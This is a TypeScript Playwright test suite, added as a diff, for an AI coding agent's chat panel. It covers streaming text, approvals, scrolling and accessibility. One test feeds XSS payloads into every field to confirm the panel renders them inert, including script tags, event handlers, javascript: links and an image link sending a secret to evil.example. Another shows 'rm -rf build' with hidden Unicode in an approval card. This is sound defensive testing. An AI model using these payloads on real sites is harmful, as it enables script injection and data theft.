@@ -1,0 +1,540 @@
+import assert from "node:assert/strict";
+import type { Browser } from "playwright-core";
+import { PanelHost, calmStatus } from "./panelHost.js";
+import { richConversation, richEnding, taskId } from "./richConversation.js";
+import { dark, highContrast, light } from "./themes.js";
+
+const at = "2026-01-05T10:00:00.000Z";
+
+describe("the panel's page", function () {
+  this.timeout(60_000);
+  let browser: Browser;
+  let host: PanelHost;
+
+  before(async () => {
+    browser = await PanelHost.launchBrowser();
+  });
+  after(async () => {
+    await browser.close();
+  });
+
+  beforeEach(async () => {
+    host = await PanelHost.open(browser);
+    await host.load();
+  });
+
+  afterEach(async () => {
+    const violations = await host.page
+      .evaluate(() => (globalThis as unknown as { violations: string[] }).violations)
+      .catch(() => []);
+    await host.close();
+    assert.deepEqual(violations, [], "what the page's policy had to forbid");
+    assert.deepEqual(host.complaints, [], "errors in the page");
+  });
+
+  const text = (selector: string): Promise<string> => host.page.locator(selector).innerText();
+
+  it("shows a text as it streams, and says it to screen readers once, when it is whole", async () => {
+    const spoken = host.page.locator("rooroo-announcer [aria-live=polite]");
+    host.agent({ type: "textDelta", messageId: "m", text: "Hello **wor" });
+    await host.drawn();
+    assert.match(await text(".text"), /Hello \*\*wor/);
+    assert.equal(await host.page.locator(".text.streaming").count(), 1);
+    host.agent({ type: "textDelta", messageId: "m", text: "ld**" });
+    await host.drawn();
+    assert.equal(await text(".text strong"), "world");
+    assert.equal((await spoken.textContent())?.trim(), "");
+
+    host.agent({ type: "text", messageId: "m", text: "Hello **world**" });
+    await host.drawn();
+    assert.equal(await host.page.locator(".text.streaming").count(), 0);
+    assert.equal((await spoken.textContent())?.trim(), "Hello world");
+    const log = host.page.locator("[role=log]");
+    assert.equal(await log.getAttribute("aria-live"), "off");
+  });
+
+  it("keeps the nodes of blocks that are complete while the rest of a text grows", async () => {
+    host.agent({ type: "textDelta", messageId: "m", text: "First.\n\nSecond" });
+    await host.drawn();
+    const first = await host.page.locator(".text p").first().elementHandle();
+    host.agent({
+      type: "textDelta",
+      messageId: "m",
+      text: " grows.\n\n```js\nlet a = 1;\n```\n\nend",
+    });
+    await host.drawn();
+    assert.ok(await first!.evaluate((node) => node.isConnected));
+    await host.page.waitForSelector(".code-block .hljs-keyword");
+  });
+
+  it("runs nothing of what a model, a tool or a file name says", async () => {
+    const attack =
+      `<img src=x onerror="alert(1)"><script>alert(2)</script><svg onload=alert(3)>` +
+      `[a](javascript:alert(4)) [b](command:rooroo.stop) [c](data:text/html,<script>alert(5)</script>)` +
+      ` ![pixel](https://evil.example/?d=secret) <a href="javascript:alert(6)">x</a>` +
+      ` <style>*{display:none}</style><iframe src="https://evil.example"></iframe>` +
+      ` <b style="background:url(https://evil.example)">y</b> [d](vscode://x) ` +
+      "`<img onerror=alert(7)>`";
+    const fetched: string[] = [];
+    host.page.on("request", (request) => fetched.push(request.url()));
+    host.event({ type: "user", at, id: "u", text: attack });
+    host.event({
+      ...{ type: "notice", at, id: "n", level: "error", text: attack },
+      steps: [{ type: "say", label: attack, text: attack }],
+    });
+    host.event({ type: "taskStarted", at, taskId: attack, mode: attack, goal: attack });
+    host.agent({ type: "text", messageId: "m", text: attack });
+    host.agent({ type: "text", messageId: "m2", text: `\`\`\`html\n${attack}\n\`\`\`` });
+    host.agent({ type: "toolStarted", callId: "c", tool: attack, title: attack });
+    host.agent({ type: "toolOutput", callId: "c", text: attack });
+    host.agent({
+      ...{ type: "approvalRequested", approvalId: "p", callId: "c" },
+      intent: {
+        ...{ access: "write", title: attack, path: attack, inside: false },
+        preview: { kind: "diff", text: `--- ${attack}\n@@ -1 +1 @@\n-${attack}\n+${attack}` },
+      },
+    });
+    host.agent({ type: "toolStarted", callId: "d", tool: attack, title: attack });
+    host.agent({
+      ...{ type: "toolEnded", callId: "d", ok: false, output: attack, diff: `+${attack}` },
+      durationMs: 1,
+    });
+    host.event({
+      ...{ type: "question", at, questionId: "q", taskId: attack, mode: attack, text: attack },
+      suggestions: [attack],
+    });
+    host.event({
+      ...{ type: "taskEnded", at, taskId: "other", mode: attack, end: "Done", message: attack },
+      artifacts: [attack],
+    });
+    host.feed.setStatus({
+      ...calmStatus,
+      ...{ heldBy: attack, talkingTo: attack, model: { name: attack, demo: true, ready: true } },
+    });
+    await host.drawn();
+    await host.page.waitForTimeout(300);
+    const found = await host.page.evaluate(() => ({
+      elements: document.querySelectorAll("rooroo-panel :is(img, script, svg, iframe, style, b)")
+        .length,
+      handlers: [...document.querySelectorAll("rooroo-panel *")].filter((element) =>
+        [...element.attributes].some(({ name }) => name.startsWith("on")),
+      ).length,
+      hrefs: [...document.querySelectorAll("rooroo-panel a")].map((link) =>
+        link.getAttribute("href"),
+      ),
+    }));
+    assert.equal(found.elements, 0);
+    assert.equal(found.handlers, 0);
+    assert.ok(found.hrefs.length > 0);
+    // What looks like an address may be pressed, and is then the host's to judge.
+    assert.ok(found.hrefs.every((href) => href?.startsWith("https://evil.example")));
+    assert.deepEqual(
+      fetched.filter((url) => url.includes("evil")),
+      [],
+    );
+  });
+
+  it("hands links and files to the host and never goes anywhere itself", async () => {
+    host.agent({
+      ...{ type: "text", messageId: "m" },
+      text: "See [docs](https://example.com/a?b=c), `src/cart.js:10-40` and [it](test/a.test.js#L7).",
+    });
+    await host.drawn();
+    const link = host.page.getByRole("link", { name: "docs" });
+    assert.equal(await link.getAttribute("title"), "https://example.com/a?b=c");
+    await link.click();
+    assert.deepEqual((await host.request("openLink")).params, { url: "https://example.com/a?b=c" });
+    await host.page.getByRole("button", { name: "src/cart.js:10-40" }).click();
+    assert.deepEqual((await host.request("openFile")).params, { path: "src/cart.js", line: 10 });
+    await host.page.getByRole("button", { name: "it" }).click();
+    assert.deepEqual((await host.request("openFile", 2)).params, {
+      ...{ path: "test/a.test.js", line: 7 },
+    });
+    assert.match(host.page.url(), /^http:\/\/127\.0\.0\.1:\d+\/$/);
+  });
+
+  it("shows exactly what is to be approved, and takes the decision by keyboard, once", async () => {
+    const urgent = host.page.locator("rooroo-announcer [aria-live=assertive]");
+    for (const event of richConversation) host.event(event);
+    host.agent({ type: "toolStarted", callId: "x", tool: "execute_command", title: "rm" });
+    host.agent({
+      ...{ type: "approvalRequested", approvalId: "px", callId: "x" },
+      intent: {
+        ...{ access: "command", title: "Run rm", path: "/srv", inside: false },
+        preview: { kind: "command", text: "rm -rf build\u202e \u200b&& ls\r" },
+      },
+    });
+    await host.drawn();
+    assert.match((await urgent.textContent()) ?? "", /approval is needed: Run rm/);
+    const card = host.page.getByRole("group", { name: "Run this command? Run rm" });
+    assert.equal(
+      await card.locator(".command").innerText(),
+      "rm -rf buildU+202E U+200B&& lsU+000D",
+    );
+    assert.match(await card.locator(".approval-warning").innerText(), /Outside .*\/srv/s);
+    assert.equal(await host.page.evaluate(() => document.activeElement?.tagName), "BODY");
+
+    await card.locator(".command").focus();
+    await host.page.keyboard.press("Tab");
+    await host.page.keyboard.press("Enter");
+    assert.deepEqual((await host.request("approve")).params, {
+      ...{ approvalId: "px", decision: "once" },
+    });
+    await host.page.keyboard.press("Enter");
+    await host.drawn();
+    assert.equal(host.requests("approve").length, 1);
+    host.agent({ type: "approvalResolved", approvalId: "px", allowed: true });
+    await host.drawn();
+    assert.equal(await card.count(), 0);
+
+    const other = host.page.getByRole("group", { name: "Run this command? Run npm test" });
+    await other.getByRole("textbox").fill("Use node --test");
+    await other.getByRole("textbox").press("Enter");
+    assert.deepEqual((await host.request("approve", 2)).params, {
+      ...{ approvalId: "p1", decision: "deny", reason: "Use node --test" },
+    });
+    host.agent({
+      ...{ type: "approvalResolved", approvalId: "p1", allowed: false },
+      reason: "Use node --test",
+    });
+    await host.drawn();
+    assert.match(await text("[data-id=c6] .approval-decided"), /Denied: Use node --test/);
+  });
+
+  it("offers the decision again when the host refuses it", async () => {
+    host.refusals = { approve: "This approval has gone." };
+    for (const event of richConversation) host.event(event);
+    await host.drawn();
+    await host.page.getByRole("button", { name: "Allow", exact: true }).click();
+    await host.request("approve");
+    await host.drawn();
+    assert.match(await text("[role=alert].problem"), /This approval has gone\./);
+    await host.page.getByRole("button", { name: "Deny", exact: true }).click();
+    await host.request("approve", 2);
+  });
+
+  it("answers a question by one press, or in words, and shows the answer", async () => {
+    for (const event of [...richConversation, ...richEnding]) host.event(event);
+    await host.drawn();
+    await host.page.getByRole("button", { name: "The catalogue's" }).click();
+    assert.deepEqual((await host.request("answer")).params, {
+      ...{ questionId: "q1", taskId: "ROO#20260105-100312#c3d4", text: "The catalogue's" },
+    });
+    host.event({ type: "answered", at, questionId: "q1", text: "The catalogue's" });
+    await host.drawn();
+    assert.equal(await text("[data-id=q1] .answer-text"), "The catalogue's");
+
+    host.event({
+      ...{ type: "question", at, questionId: "q2", taskId: null, mode: "rooroo-navigator" },
+      ...{ text: "Which cart?", suggestions: [] },
+    });
+    await host.drawn();
+    const field = host.page.locator("[data-id=q2]").getByRole("textbox");
+    await field.fill("The big one");
+    await field.press("Enter");
+    assert.deepEqual((await host.request("send")).params, { text: "The big one" });
+  });
+
+  it("sends with Enter, breaks the line with Shift+Enter, and leaves an input method alone", async () => {
+    const input = host.page.getByRole("textbox", { name: "Message to the Navigator" });
+    await input.fill("one");
+    await input.press("Shift+Enter");
+    await input.pressSequentially("two");
+    await input.evaluate((node) =>
+      node.dispatchEvent(
+        new KeyboardEvent("keydown", { key: "Enter", isComposing: true, bubbles: true }),
+      ),
+    );
+    assert.equal(host.requests("send").length, 0);
+    await input.press("Enter");
+    assert.deepEqual((await host.request("send")).params, { text: "one\ntwo" });
+    assert.equal(await input.inputValue(), "");
+
+    host.event({ type: "user", at, id: "u1", text: "one\ntwo" });
+    await host.drawn();
+    await input.press("ArrowUp");
+    assert.equal(await input.inputValue(), "one\ntwo");
+    await input.press("ArrowDown");
+    assert.equal(await input.inputValue(), "");
+  });
+
+  it("gives back what the host would not take", async () => {
+    host.refusals = { send: "No model is set." };
+    const input = host.page.getByRole("textbox", { name: "Message to the Navigator" });
+    await input.fill("Do it");
+    await input.press("Enter");
+    await host.request("send");
+    await host.drawn();
+    assert.equal(await input.inputValue(), "Do it");
+    assert.match(await text("[role=alert].problem"), /No model is set\./);
+  });
+
+  it("suggests commands while one is typed", async () => {
+    const input = host.page.getByRole("textbox", { name: "Message to the Navigator" });
+    await input.pressSequentially("/");
+    assert.equal(await host.page.getByRole("option").count(), 5);
+    await input.pressSequentially("q");
+    assert.equal(await host.page.getByRole("option").count(), 1);
+    await input.press("Enter");
+    assert.equal(await input.inputValue(), "/queue ");
+    assert.equal(host.requests("send").length, 0);
+    assert.equal(await host.page.getByRole("option").count(), 0);
+  });
+
+  it("keeps the draft over a reload and gets the conversation back", async () => {
+    for (const event of richConversation) host.event(event);
+    await host.page.getByRole("textbox", { name: "Message to the Navigator" }).fill("half a th");
+    await host.load();
+    await host.drawn();
+    const input = host.page.getByRole("textbox", { name: "Message to the Navigator" });
+    assert.equal(await input.inputValue(), "half a th");
+    assert.equal(await host.page.locator(".approval").count(), 1);
+  });
+
+  it("takes words for the input from the host", async () => {
+    host.feed.compose("/plan a release");
+    await host.drawn();
+    const input = host.page.getByRole("textbox", { name: "Message to the Navigator" });
+    assert.equal(await input.inputValue(), "/plan a release");
+  });
+
+  it("asks for a snapshot when it misses an increment, and passes over nonsense", async () => {
+    const asked = () => host.received.filter(({ type }) => type === "ready").length;
+    assert.equal(asked(), 1);
+    for (const junk of [null, 7, "x", {}, { type: "?" }, { type: "snapshot" }, []]) {
+      await host.page.evaluate((message) => {
+        window.postMessage(message, "*");
+      }, junk);
+    }
+    await host.drawn();
+    assert.equal(asked(), 1);
+    host.event({ type: "user", at, id: "u1", text: "missed" });
+    await host.post({ type: "increment", increment: { seq: 99, changes: [] } });
+    await host.drawn();
+    assert.equal(asked(), 2);
+    assert.equal(await text(".user-text"), "missed");
+  });
+
+  it("shows as plain text what it cannot draw, and goes on", async () => {
+    const broken = { kind: "report", id: "r", at, taskId, mode: 7, end: "Odd", message: "Words." };
+    await host.post({
+      type: "increment",
+      increment: { seq: 1, changes: [{ type: "put", item: broken as never }] },
+    });
+    await host.post({
+      ...{ type: "increment" },
+      increment: {
+        seq: 2,
+        changes: [{ type: "put", item: { kind: "user", id: "u", at, text: "still here" } }],
+      },
+    });
+    await host.drawn();
+    assert.match(await text("[data-id=r] .plain"), /message: Words\./);
+    assert.equal(await text(".user-text"), "still here");
+    assert.equal(host.complaints.length, 1);
+    host.complaints.length = 0;
+  });
+
+  it("has few nodes however long the conversation is, and every item within reach", async () => {
+    for (let n = 0; n < 5_000; n++) {
+      host.event({
+        type: "user",
+        at,
+        id: `u${n}`,
+        text: `message ${n} ${"words ".repeat(n % 40)}`,
+      });
+    }
+    await host.drawn();
+    const scroller = host.page.locator(".scroller");
+    const nodes = (): Promise<number> =>
+      host.page.evaluate(() => document.querySelectorAll("rooroo-panel *").length);
+    assert.match(await text(".items"), /message 4999/);
+    assert.ok((await nodes()) < 600);
+
+    let most = 0;
+    // Up to the very first, further ones being loaded on the way.
+    for (let step = 0; step < 200; step++) {
+      await scroller.evaluate((element) => (element.scrollTop = 0));
+      await host.drawn();
+      most = Math.max(most, await nodes());
+      if ((await host.page.locator(".earlier").count()) === 0) break;
+    }
+    await scroller.evaluate((element) => (element.scrollTop = 0));
+    await host.drawn();
+    assert.match(await text(".items"), /message 0 /);
+    assert.ok(most < 600, `${most} nodes`);
+    for (let step = 0; step < 40; step++) {
+      await scroller.evaluate((element) => (element.scrollTop += element.scrollHeight / 40));
+      await host.page.waitForTimeout(10);
+      const seen = await host.page.evaluate(() => {
+        const box = document.querySelector(".scroller")!.getBoundingClientRect();
+        const middle = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
+        return middle?.closest(".item, .items") !== null;
+      });
+      assert.ok(seen, "the middle of the view belongs to the conversation");
+    }
+    assert.ok((await nodes()) < 600);
+  });
+
+  it("stays at the end while the reader is there, and leaves a reader further up alone", async () => {
+    const scroller = host.page.locator(".scroller");
+    const gap = (): Promise<number> =>
+      scroller.evaluate((e) => Math.round(e.scrollHeight - e.scrollTop - e.clientHeight));
+    for (let n = 0; n < 60; n++) host.event({ type: "user", at, id: `u${n}`, text: `number ${n}` });
+    await host.drawn();
+    assert.ok((await gap()) <= 1);
+    const grow = async (times: number): Promise<void> => {
+      for (let n = 0; n < times; n++) {
+        host.agent({ type: "textDelta", messageId: "m", text: "more and more words\n\n" });
+        await host.drawn();
+      }
+    };
+    await grow(10);
+    assert.ok((await gap()) <= 1);
+
+    await scroller.hover();
+    await host.page.mouse.wheel(0, -900);
+    await host.drawn();
+    const place = (): Promise<number[]> =>
+      host.page.evaluate(() => {
+        const top = document.querySelector(".scroller")!.getBoundingClientRect().top;
+        const item = [...document.querySelectorAll<HTMLElement>(".item")].find(
+          (element) => element.getBoundingClientRect().bottom > top + 1,
+        )!;
+        return [Number(item.dataset["index"]), Math.round(item.getBoundingClientRect().top - top)];
+      });
+    const before = await place();
+    await grow(10);
+    host.event({ type: "user", at, id: "new", text: "something new" });
+    await host.drawn();
+    assert.deepEqual(await place(), before);
+    await host.page.getByRole("button", { name: "New messages" }).click();
+    await host.drawn();
+    assert.ok((await gap()) <= 1);
+    assert.equal(await host.page.locator(".to-end").count(), 0);
+  });
+
+  it("keeps the reader's place when earlier items are put in front", async () => {
+    for (let n = 0; n < 400; n++) {
+      host.event({ type: "user", at, id: `u${n}`, text: `number ${n} ${"words ".repeat(n % 60)}` });
+    }
+    await host.load();
+    await host.drawn();
+    const scroller = host.page.locator(".scroller");
+    await scroller.evaluate((element) => (element.scrollTop = 600));
+    await host.drawn();
+    const before = await host.page.evaluate(() => {
+      document.querySelector(".scroller")!.scrollTop = 200;
+      const items = [...document.querySelectorAll<HTMLElement>(".item")];
+      const visible = items.find((item) => item.getBoundingClientRect().bottom > 1);
+      return { id: visible?.dataset["id"], top: visible?.getBoundingClientRect().top };
+    });
+    assert.match(before.id ?? "", /^u30\d$/);
+    await host.request("earlier");
+    await host.drawn();
+    const item = host.page.locator(`[data-id=${before.id ?? ""}]`);
+    const top = await item.evaluate((element) => element.getBoundingClientRect().top);
+    assert.ok(Math.abs(top - (before.top ?? 0)) < 2, `${top} ${before.top ?? ""}`);
+    assert.equal(await text(".earlier"), "100 earlier items");
+  });
+
+  it("keeps the focus on an item that is scrolled out of sight", async () => {
+    for (const event of richConversation) host.event(event);
+    await host.drawn();
+    await host.page.getByRole("button", { name: "Deny", exact: true }).focus();
+    for (let n = 0; n < 300; n++) host.event({ type: "user", at, id: `u${n}`, text: `words ${n}` });
+    await host.drawn();
+    const focused = await host.page.evaluate(() => document.activeElement?.textContent.trim());
+    assert.equal(focused, "Deny");
+  });
+
+  it("goes from item to item with Alt and the arrows", async () => {
+    for (let n = 0; n < 200; n++) host.event({ type: "user", at, id: `u${n}`, text: `words ${n}` });
+    await host.drawn();
+    await host.page.locator(".scroller").focus();
+    for (let n = 0; n < 40; n++) await host.page.keyboard.press("Alt+ArrowUp");
+    await host.drawn();
+    const id = await host.page.evaluate(
+      () => (document.activeElement as HTMLElement).dataset["id"],
+    );
+    assert.equal(id, "u160");
+  });
+
+  it("says what is needed before anything can be done", async () => {
+    const shown = async (status: Partial<typeof calmStatus>): Promise<string> => {
+      host.feed.setStatus({ ...calmStatus, ...status });
+      await host.drawn();
+      return text("rooroo-panel");
+    };
+    assert.match(await shown({}), /Where to\?/);
+    assert.match(await shown({ workspace: "untrusted" }), /Restricted Mode/);
+    assert.match(
+      await shown({ model: { name: "", demo: false, ready: false } }),
+      /Set API Key…[^]*Select Model…/,
+    );
+    await host.page.getByRole("button", { name: "Set API Key…" }).first().click();
+    assert.deepEqual((await host.request("hostCommand")).params, { command: "setApiKey" });
+    await shown({ workspace: "none" });
+    await host.page.getByRole("button", { name: "Open Folder" }).click();
+    await host.request("openFolder");
+    assert.match(
+      await shown({ model: { name: "demo", demo: true, ready: true } }),
+      /Demo model: scripted words, real tool calls/,
+    );
+  });
+
+  it("offers Stop while something runs and Proceed while something waits", async () => {
+    host.feed.setStatus({ ...calmStatus, busy: true, queued: 2 });
+    await host.drawn();
+    assert.equal(await host.page.getByRole("button", { name: "Proceed" }).count(), 0);
+    await host.page.getByRole("button", { name: "Stop" }).click();
+    await host.request("stop");
+    host.feed.setStatus({ ...calmStatus, queued: 2 });
+    await host.drawn();
+    assert.equal(await host.page.getByRole("button", { name: "Stop" }).count(), 0);
+    await host.page.getByRole("button", { name: "Proceed" }).click();
+    assert.deepEqual((await host.request("send")).params, { text: "proceed" });
+    host.feed.setStatus({ ...calmStatus, queued: 2, heldBy: "rooroo proceed on laptop" });
+    await host.drawn();
+    assert.match(await text(".strip"), /being run by rooroo proceed on laptop/);
+  });
+
+  it("names every control, in every theme, and lets nothing stick out of a narrow view", async () => {
+    for (const theme of [dark, light, highContrast]) {
+      const other = await PanelHost.open(browser, { theme, width: 240, height: 3_000 });
+      try {
+        await other.load();
+        for (const event of [...richConversation, ...richEnding]) other.event(event);
+        other.feed.setStatus({ ...calmStatus, busy: true, queued: 3, needsYou: 1 });
+        await other.drawn();
+        const faults = await other.page.evaluate(() => {
+          const controls = "button, vscode-button, input, textarea, a, [role=region], [role=group]";
+          const nameless = [...document.querySelectorAll<HTMLElement>(controls)].filter(
+            (element) =>
+              !(element.ariaLabel ?? "").trim() &&
+              !element.textContent.trim() &&
+              element.getAttribute("aria-labelledby") === null,
+          );
+          const ids = [...document.querySelectorAll("[id]")].map(({ id }) => id);
+          const wide = [...document.querySelectorAll<HTMLElement>(".item > *, .footer > *")].filter(
+            (element) => element.getBoundingClientRect().right > window.innerWidth + 1,
+          );
+          const levels = [...document.querySelectorAll("h1, h2, h3, h4")].map((heading) =>
+            Number(heading.tagName.slice(1)),
+          );
+          return {
+            nameless: nameless.map((element) => element.outerHTML.slice(0, 120)),
+            twice: ids.filter((id, index) => ids.indexOf(id) !== index),
+            wide: wide.map((element) => element.className),
+            skipped: levels.filter((level, index) => level > (levels[index - 1] ?? 0) + 1).length,
+            lang: document.documentElement.lang,
+          };
+        });
+        assert.deepEqual(faults, { nameless: [], twice: [], wide: [], skipped: 0, lang: "en" });
+        assert.deepEqual(other.complaints, []);
+      } finally {
+        await other.close();
+      }
+    }
+  });
+});
